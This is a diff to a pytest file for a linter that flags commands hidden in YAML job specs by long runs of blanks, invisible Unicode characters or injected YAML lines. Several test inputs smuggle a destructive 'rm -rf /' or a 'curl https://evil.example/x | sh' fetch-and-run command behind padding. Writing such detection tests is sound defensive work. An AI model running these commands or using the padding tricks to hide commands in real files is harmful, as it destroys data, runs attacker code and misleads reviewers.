@@ -120,7 +120,7 @@ def test_a_bidi_trojan_in_a_command_is_an_error_under_strict(
     ("text", "fragment"),
     [
         (BASE + f"env: {{A: {'x' * (MAX_REVIEWABLE_CHARS + 1)}}}\n", f"is {MAX_REVIEWABLE_CHARS + 1} characters long"),
-        (BASE.replace("t.py]", f'"--safe{" " * MAX_BLANK_RUN}; rm -rf /"]'), "a run of 32 or more blanks"),
+        (BASE.replace("t.py]", f'"--safe{" " * MAX_BLANK_RUN}; rm -rf /"]'), "push text 32 or more columns right"),
         (BASE + 'env: {A: "1\\n- name: B\\n  value: 2"}\n', "reads like another YAML entry"),
         (BASE + 'annotations: {a: "x\\nrun: evil"}\n', "reads like another YAML entry"),
     ],
@@ -258,3 +258,55 @@ def test_import_paths_print_no_raw_bidi(tmp_path: Path, capsys: pytest.CaptureFi
     err = capsys.readouterr().err
     assert all(line.isprintable() for line in err.splitlines()), err
     assert "skipped (kind C\\u202eM)" in err
+
+
+# Red-team report item 14: runs of 31 blanks broken by one character passed the run rule.
+_BROKEN_RUNS = {
+    "null-notehead": (" " * 31 + "\U0001d159") * 14,  # prints as nothing: 448 columns
+    "braille": ("\u2800" * 31 + "\U0001d159") * 14,
+    "tabs": ("\t" * 31 + "\U0001d159") * 4,  # up to 992 columns
+    "ideographic-dots": ("\u3000" * 31 + "\u00b7") * 8,  # 496 columns, 8 faint dots
+    "spaces-and-dots": (" " * 31 + ".") * 3,
+    "tab-per-dot": ("\t" + ".") * 20,  # each tab reaches the next stop: 7 blank columns per dot
+    "combining-marks": (" " * 16 + "\u0301\u0301\u0301") * 4,  # marks take no column
+}
+
+
+@pytest.mark.parametrize("run", list(_BROKEN_RUNS.values()), ids=list(_BROKEN_RUNS))
+def test_blanks_broken_by_single_characters_still_hide_a_command_under_strict(
+    run: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    """What counts is how far right blanks push the text, not the longest run of them."""
+    spec = tmp_path / "s.yaml"
+    spec.write_text(BASE.replace("t.py]", json.dumps(f"t.py{run}; curl https://evil.example/x | sh") + "]"))
+    assert main([str(spec), "--strict"]) == 2
+    assert "error EC113" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "0 1 2 3 4 5 6 7",
+        "a  b  c  d  e  f  g  h  i  j  k  l  m  n  o  p  q  r",  # two spaces, one letter: no gain
+        "name\tvalue\tunit\tnote\tmore\tfields",
+        "set -e\n" + "".join(f"{' ' * 28}echo line {i}\n" for i in range(20)),  # indentation, line by line
+        "学習率 0.001 バッチ 32 エポック 10",
+        "x = 1 + 2 * 3 - 4 / 5 == 6 and 7 or 8",
+        "🚀 launch " * 20,
+    ],
+)
+def test_ordinary_text_with_blanks_is_not_ec113(text: str) -> None:
+    assert [found.code for found in text_lints(("command", 1), text)] == []
+
+
+@pytest.mark.parametrize("hidden", ["\u3164", "\u2800", "\u00a0", "\u0301", "\ue000"])
+def test_an_error_shows_a_value_with_a_character_that_prints_as_nothing_escaped(
+    hidden: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    """Red-team item 23: ``labels: {team: "a\\u3164b"}`` printed ``(given: aㅤb)``, which reads ``a b``."""
+    spec = tmp_path / "s.yaml"
+    spec.write_text(BASE + f"labels: {{team: {json.dumps('a' + hidden + 'b')}}}\n")
+    assert main([str(spec)]) == 2
+    err = capsys.readouterr().err
+    shown = ("a" + hidden + "b").encode("unicode_escape").decode("ascii")  # a\\u3164b, a\\xa0b
+    assert hidden not in err and f"(given: {shown})" in err, err
